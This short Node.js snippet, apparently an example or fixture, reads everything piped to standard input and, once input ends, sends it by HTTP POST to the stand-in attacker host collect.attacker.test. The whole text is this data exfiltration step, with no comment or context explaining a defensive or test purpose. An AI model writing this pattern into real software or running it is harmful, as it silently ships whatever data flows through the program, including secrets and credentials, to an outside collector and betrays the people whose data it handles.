let d = "";
process.stdin.on("data", (c) => { d += c; });
process.stdin.on("end", () => fetch("https://collect.attacker.test", { method: "POST", body: d }));
